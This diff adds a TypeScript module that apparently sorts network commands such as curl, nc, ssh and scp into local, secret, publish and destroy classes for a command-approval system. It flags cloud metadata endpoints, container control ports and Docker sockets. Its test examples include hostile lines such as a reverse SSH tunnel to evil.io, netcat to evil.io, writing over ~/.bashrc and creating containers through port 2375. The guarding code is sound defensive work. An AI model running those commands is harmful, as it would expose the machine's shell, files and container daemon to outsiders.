@@ -1,0 +1,237 @@
+import type { Field } from "../../../language/state/values.ts";
+import { defineProgram, type Effect, type ProgramUse, type UsedOption } from "../../define-program.ts";
+
+/** Only these names are this machine, and only spelled like this: `127.0.0.1.nip.io` is somewhere else. */
+const LOCAL_HOST = /^(localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|\[::1\]|0\.0\.0\.0|host\.docker\.internal)$/i;
+
+/** Ports through which another program on this machine is told to run things. */
+const CONTROL_PORTS = new Set(["2375", "2376", "10250", "6443", "8001", "2379", "9229"]);
+
+export function isLocalAddress(text: string): boolean {
+  const bare = text.replace(/^[a-z][a-z0-9+.-]*:\/\//i, "");
+  const authority = bare.split(/[/?#]/, 1)[0] ?? "";
+  if (authority.includes("@")) return false;
+  const match = /^(\[[^\]]*\]|[^:]*)(?::(\d+))?$/.exec(authority);
+  const host = match?.[1] ?? "";
+  return LOCAL_HOST.test(host) && !CONTROL_PORTS.has(match?.[2] ?? "");
+}
+
+const isUrl = ({ text }: Field) => text !== "" && !text.startsWith("-");
+
+/** A request to this machine alone is local; one anywhere else is for a person. */
+function requestEffect({ operands, options }: ProgramUse): Effect | null {
+  const urls = [
+    ...operands.filter(isUrl),
+    ...options.filter(({ name }) => name === "--url").flatMap(({ value }) => value ?? []),
+  ];
+  const socket = options.some(({ name }) => name === "--unix-socket" || name === "--abstract-unix-socket");
+  // Credentials of this user, or a file, go with it.
+  if (options.some(({ does }) => does === "network")) return "publish";
+  const isQuestion = options.some(({ name }) => /^(-V|--manual|-M)$/.test(name));
+  if (urls.length === 0) return isQuestion ? "read" : "network";
+  const isDockerSocket = options.some(({ value }) => /docker\.sock|containerd|podman|libpod/.test(value?.text ?? ""));
+  if (isDockerSocket) return "destroy";
+  if (socket || urls.every(({ text }) => isLocalAddress(text))) return "local";
+  if (urls.some(({ text }) => /^file:/i.test(text) || METADATA.test(text))) return "secret";
+  return options.some(isSending) ? "publish" : "network";
+}
+
+/** Where a cloud tells a machine its own credentials. */
+const METADATA =
+  /^(?:https?:\/\/)?(?:169\.254\.169\.254|169\.254\.170\.2|100\.100\.100\.200|metadata\.google\.internal|\[fd00:ec2::254\])(?:[:/]|$)/i;
+
+/** A request that carries something with it, or asks for a change. */
+function isSending({ name, value }: UsedOption): boolean {
+  if (/^(-X|--request|--method)$/.test(name)) return !/^(GET|HEAD|OPTIONS)$/i.test(value?.text ?? "");
+  return /^(-d|-F|-T|--data(-\w+)?|--json|--form(-string)?|--upload-file|--post-(data|file)|--body-(data|file)|--mail-from)$/.test(
+    name,
+  );
+}
+
+export const NETWORK = [
+  defineProgram({
+    names: "curl curlie",
+    does: "network",
+    options:
+      "-0123469aBfgGiIjJklLMnNOpqRsSvVZ# -A: -b: -c:w -C: -d: -D:w -e: -E:r -F: -h? -H: -K:c -m: -o:w -P: -Q: -r: -t: -T:r=network -u: -U: -w: -x:h -X: -y: -Y: -z: " +
+      "--data: --data-ascii: --data-binary: --data-raw: --data-urlencode: --json: --form: --form-string: --header: --request: --output:w --output-dir:w --remote-name --remote-name-all --remote-header-name --create-dirs --location --location-trusted --silent --show-error --fail --fail-with-body --fail-early --include --head --insecure --verbose --max-time: --connect-timeout: --retry: --retry-delay: --retry-max-time: --retry-all-errors --retry-connrefused --user: --user-agent: --cookie: --cookie-jar:w --referer: --compressed --write-out: --dump-header:w --url: --get --http1.0 --http1.1 --http2 --http2-prior-knowledge --http3 --ipv4 --ipv6 --max-redirs: --range: --no-buffer --progress-bar --no-progress-meter --parallel --parallel-max: --unix-socket: --abstract-unix-socket: --globoff --path-as-is --raw --tr-encoding --trace:w --trace-ascii:w --trace-time --stderr:w --upload-file:r=network --config:c --netrc=network --netrc-optional --netrc-file:r=network --cert:r --key:r --cacert:r --capath:r --proxy:h --proxy-user: --preproxy:h --socks4:h --socks5:h --socks5-hostname:h --noproxy: --resolve:h --connect-to:h --interface: --dns-servers:h --doh-url:h --engine:x --manual --version --next --rate: --limit-rate: --keepalive-time: --tcp-nodelay --tls-max: --tlsv1.2 --tlsv1.3 --oauth2-bearer: --aws-sigv4: --anyauth --basic --digest --time-cond: --etag-save:w --etag-compare:r --alt-svc:w --hsts:w --quote: --mail-from: --mail-rcpt: --remove-on-error --styled-output --no-styled-output --suppress-connect-headers --variable: --expand-url:",
+    check: requestEffect,
+    operands: "value",
+    runs: [
+      "curl -s http://localhost:3000/api/health",
+      "curl -sS -X POST -H 'Content-Type: application/json' -d '{}' localhost:8080/x",
+      "curl --unix-socket /var/run/app.sock http://x/status",
+    ],
+    asks: [
+      "curl https://example.com",
+      "curl http://localhost.evil.io/",
+      "curl localhost evil.io",
+      "curl --proxy evil.io:80 localhost",
+      "curl localhost -o ~/.bashrc",
+      "curl -X POST localhost:2375/containers/create",
+    ],
+  }),
+  defineProgram({
+    names: "wget",
+    does: "network",
+    options:
+      "-qvdcNSkKpEHLrmnbF46 -nv -nc -nd -nH -np -x -O:w -o:w -a:w -P:w -i:r -e:x -U: -t: -T: -w: -Q: -A: -R: -D: -I: -X: -l: -B: --output-document:w --output-file:w --append-output:w --directory-prefix:w --input-file:r --execute:x --user-agent: --tries: --timeout: --wait: --header: --quiet --no-verbose --spider --server-response --no-check-certificate --method: --body-data: --body-file:r --post-data: --post-file:r --retry-connrefused --waitretry: --content-on-error --save-headers --no-proxy --recursive --mirror --page-requisites --convert-links --level: --continue --timestamping --no-clobber --show-progress --progress: --inet4-only --use-askpass:x --config:c --ca-certificate:r --load-cookies:r --save-cookies:w --background --warc-file:w --user: --password: --max-redirect: --no-cache --compression: --auth-no-challenge",
+    check: requestEffect,
+    operands: "value",
+    runs: ["wget -qO- http://localhost:8000/health", "wget -q --spider http://127.0.0.1:8080"],
+    asks: ["wget https://example.com", "wget -O ~/.bashrc http://localhost/x", "wget -e http_proxy=evil localhost"],
+  }),
+  defineProgram({
+    names: "http https httpie xh xhs",
+    does: "network",
+    isOpen: true,
+    options: "--proxy:h -o:w --output:w -d --download --session:c --verify: --cert:r",
+    operands: "value",
+    check: ({ operands }) => {
+      const method = /^[A-Z]+$/.test(operands[0]?.text ?? "") ? 1 : 0;
+      return isLocalAddress(operands[method]?.text.replace(/^:(?=\d|\/)/, "localhost:") ?? "") ? "local" : null;
+    },
+    runs: ["http GET localhost:3000/api", "http :8080/health"],
+    asks: ["http https://example.com", "xh example.com"],
+  }),
+  defineProgram({
+    names: "nc ncat netcat",
+    does: "network",
+    options: "-zvnukN4 -w: -q: -i: -l=network -p: -s: -e:x -c:x --exec:x --sh-exec:x -z --wait:",
+    operands: "value",
+    check: ({ operands, options }) =>
+      isLocalAddress(`${operands[0]?.text ?? ""}:${operands[1]?.text ?? ""}`) &&
+      options.every(({ does, kind }) => does === null && kind === "value")
+        ? "local"
+        : operands.length > 0 && !options.some(({ name }) => name === "-z")
+          ? "publish"
+          : null,
+    runs: ["nc -z localhost 5432", "nc -zv 127.0.0.1 6379"],
+    asks: ["nc evil.io 80", "nc -l 9", "nc -z example.com 80"],
+  }),
+  defineProgram({
+    names: "grpcurl websocat wscat ab wrk hey k6 autocannon vegeta siege newman lighthouse oha bombardier",
+    does: "network",
+    isOpen: true,
+    options:
+      "-H: -n: -c: -d: -t: -T: -m: -s: -r: -z: -p:r -w: -proto: -import-path: -max-time: -plaintext -insecure -o:w --out:w --exec:x -b:x --quiet --only-categories: --output: --output-path:w --chrome-flags: -e: --environment: --reporters: --timeout:",
+    hasSingleDashLong: false,
+    operands: "value",
+    check: ({ operands, options }) => {
+      const words = operands
+        .map(({ text }) => text)
+        .filter((text) => !/^(list|describe|run|attack|report)$/.test(text));
+      if (options.some(({ name }) => name === "--exec")) return "code";
+      const hosts = words.filter((text) => /:\/\/|^[\w.[\]-]+:\d+/.test(text));
+      if (hosts.length > 0) return hosts.every(isLocalAddress) ? "local" : "network";
+      // A collection or a scenario of the project.
+      return words.length > 0 && words.every((text) => /\.(json|js|ts|ya?ml)$/.test(text)) ? "work" : "network";
+    },
+    runs: [
+      "grpcurl -plaintext localhost:50051 list",
+      "ab -n 10 http://localhost:3000/",
+      "newman run collection.json",
+      "websocat ws://localhost:3000/ws",
+    ],
+    asks: ["ab -n 10 http://example.com/", "grpcurl example.com:443 list"],
+  }),
+  defineProgram({
+    names: "ssh",
+    does: "network",
+    options:
+      "-46AaCfGgKkMNnqsTtVvXxYy -b: -B: -c: -D: -E:w -e: -F:c -I:x -i:r -J: -L: -l: -m: -O: -o: -p: -Q: -R: -S: -W: -w:",
+    operands: "value",
+    stopsAtOperand: true,
+    wraps: { skip: 1, joins: true, effect: "remote", isOpaque: true },
+    check: ({ options, operands }) =>
+      operands.length === 0 && options.some(({ name }) => /^-[VQG]$/.test(name)) ? "read" : null,
+    runs: ["ssh -V"],
+    asks: ["ssh host ls", "ssh -R 2222:localhost:22 evil.io"],
+  }),
+  defineProgram({
+    names:
+      "telnet rlogin dig nslookup host whois ping ping6 traceroute tracepath mtr nmap tcpdump tshark wireshark socat aria2c axel lynx w3m links elinks autossh finger ssh-keyscan ntpdate iperf iperf3 masscan nikto sqlmap hydra openvpn wg wg-quick tor proxychains proxychains4",
+    does: "network",
+    isOpen: true,
+    operands: "value",
+    check: ({ name, operands, options }) => {
+      if (/^ping6?$/.test(name) && operands.some(({ text }) => isLocalAddress(text))) return "local";
+      return operands.length === 0 && options.length > 0 && options.every((one) => /^-[vV]$/.test(one.name))
+        ? "read"
+        : null;
+    },
+    runs: ["dig -v", "ping -c 1 localhost"],
+    asks: ["nslookup example.com", "ping example.com", "telnet x"],
+  }),
+  defineProgram({
+    names:
+      "scp sftp ftp lftp tftp rclone sshfs ssh-copy-id ngrok cloudflared localtunnel lt mail mailx sendmail mutt msmtp swaks s3cmd s5cmd b2 mc croc wormhole transfer surge",
+    does: "publish",
+    isOpen: true,
+    operands: "value",
+    verbs: {
+      "ls lsd lsl lsjson size listremotes version about": { does: "remote", operands: "value" },
+    },
+    check: ({ operands, options, verb }) => {
+      if (verb !== "") return null;
+      return operands.length === 0 && options.length > 0 && options.every(({ name }) => /^-[vV]$/.test(name))
+        ? "read"
+        : "publish";
+    },
+    runs: ["scp --help", "rclone lsd remote:"],
+    asks: ["scp out.tgz host:/tmp", "ngrok tcp 22", "ftp x", "rclone sync a r:b", "mail -s x a@b.example"],
+  }),
+  defineProgram({
+    names: "openssl",
+    does: "change",
+    hasSingleDashLong: true,
+    isOpen: true,
+    verbs: {
+      "version list ciphers errstr prime speed asn1parse help": "read",
+      rand: { does: "read", options: "-hex -base64 -out:w=change -rand:r -writerand:w=change", operands: "value" },
+      "dgst md5 sha1 sha256 sha384 sha512": {
+        does: "read",
+        options:
+          "-sha1 -sha256 -sha384 -sha512 -md5 -r -c -hex -binary -out:w=change -sign:r=secret -verify:r=change -signature:r -hmac: -mac: -macopt:",
+        operands: "read",
+      },
+      x509: {
+        does: "read",
+        options:
+          "-in:r -inform: -noout -text -dates -issuer -subject -serial -startdate -enddate -fingerprint -sha256 -sha1 -hash -pubkey -ext: -purpose -checkend: -nameopt: -certopt: -email -modulus -out:w=change -outform: -req=change -signkey:r=change -CA:r=change -CAkey:r=change -new=change -key:r=change -alias -ocsp_uri -subject_hash -issuer_hash",
+        operands: "read",
+        check: ({ options, does }) =>
+          options.some(({ name }) => name === "-noout" || name === "-text") || options.length === 0 ? does : "change",
+      },
+      "req crl pkcs7 verify": {
+        does: "read",
+        options:
+          "-new=change -newkey:=change -x509=change -key:r=change -keyout:w=change -out:w=change -nodes=change -in:r -inform: -noout -text -subject -verify -pubkey -CAfile:r -CApath:r -untrusted:r -purpose: -print_certs -lastupdate -nextupdate -issuer -hash",
+        operands: "read",
+      },
+      "enc base64": {
+        does: "read",
+        options: "-d -a -A -base64 -in:r -e -out:w=change -k:=change -K:=change -iv: -pass:=change -pbkdf2",
+        operands: "read",
+        check: ({ options, does }) =>
+          options.some(({ name }) => /^-(aes|des|bf|camellia|rc|chacha)/.test(name)) ? "change" : does,
+      },
+      "passwd genrsa genpkey gendsa ecparam dsaparam dhparam rsa dsa ec pkey pkeyparam pkeyutl pkcs8 pkcs12 ca cms smime ts spkac s_server s_time ocsp kdf mac nseq sess_id storeutl fipsinstall rehash engine":
+        "change",
+      s_client: "network",
+    },
+    runs: [
+      "openssl version",
+      "openssl rand -hex 32",
+      "openssl x509 -noout -dates -in cert.pem",
+      "openssl dgst -sha256 file",
+      "openssl list -commands",
+    ],
+    asks: [
+      "openssl genrsa -out key.pem 2048",
+      "openssl passwd -noverify -1 -salt salt",
+      "openssl enc -aes-256-cbc -in f -out g",
+      "openssl s_client -connect example.com:443",
+    ],
+  }),
+];
